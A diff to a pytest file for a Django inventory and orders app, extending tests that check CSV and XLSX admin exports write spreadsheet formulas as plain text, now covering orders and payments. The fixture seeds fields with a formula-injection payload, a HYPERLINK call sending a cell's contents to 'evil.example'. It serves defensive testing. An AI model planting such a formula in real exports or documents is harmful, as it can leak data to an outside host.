@@ -2,6 +2,7 @@
 import csv
 import io
 from datetime import date
+from decimal import Decimal
 
 import openpyxl
 import pytest
@@ -11,7 +12,7 @@ from import_export.admin import ExportMixin
 from allocation.models import AllocationRun
 from allocation.services import allocation_run
 from inventory_alloc.admin_base import neutralised
-from orders.models import Customer, Order
+from orders.models import Customer, Order, Payment
 from stock.models import Item, Lot
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1)'
@@ -24,7 +25,9 @@ def evil_books(widget_example, admin_user):
     Item.objects.filter(pk=widget_example["item"].pk).update(name=EVIL, category=VARIANTS[1])
     Lot.objects.filter(reference="L1").update(reference=VARIANTS[3], note=VARIANTS[2])
     o1 = widget_example["orders"]["O1"]
-    Customer.objects.filter(pk=o1.customer_id).update(name=EVIL, address=VARIANTS[4], notes=VARIANTS[1])
+    Customer.objects.filter(pk=o1.customer_id).update(name=EVIL, address=VARIANTS[4], notes=VARIANTS[1],
+                                                      code=VARIANTS[3])
+    Payment.objects.create(customer_id=o1.customer_id, amount=Decimal("10.00"), due_date=date(2026, 1, 31))
     Order.objects.filter(pk=o1.pk).update(order_number=EVIL)
     allocation_run(method="FIFO", orders=[o1], as_of=date(2026, 1, 25), user=admin_user)
     AllocationRun.objects.update(error=EVIL)
@@ -38,7 +41,8 @@ def exporting_admins() -> list:
 
 def test_the_admins_that_export_are_the_ones_this_file_checks():
     assert {model._meta.label for model, _admin in exporting_admins()} == {
-        "stock.Item", "stock.Lot", "orders.Customer", "allocation.AllocationRun", "allocation.AllocationResult",
+        "stock.Item", "stock.Lot", "orders.Customer", "orders.Order", "orders.Payment", "allocation.AllocationRun",
+        "allocation.AllocationResult",
     }
 
 
@@ -52,8 +56,8 @@ def cells(content: bytes, file_format: int) -> list[object]:
 
 
 @pytest.mark.parametrize("file_format", [0, 1], ids=["csv", "xlsx"])
-@pytest.mark.parametrize("label", ["stock.Item", "stock.Lot", "orders.Customer", "allocation.AllocationRun",
-                                   "allocation.AllocationResult"])
+@pytest.mark.parametrize("label", ["stock.Item", "stock.Lot", "orders.Customer", "orders.Order", "orders.Payment",
+                                   "allocation.AllocationRun", "allocation.AllocationResult"])
 def test_an_export_writes_formulas_as_text(label, file_format, admin_client, evil_books):
     # given: every column of the model's export
     model, model_admin = next((m, a) for m, a in exporting_admins() if m._meta.label == label)
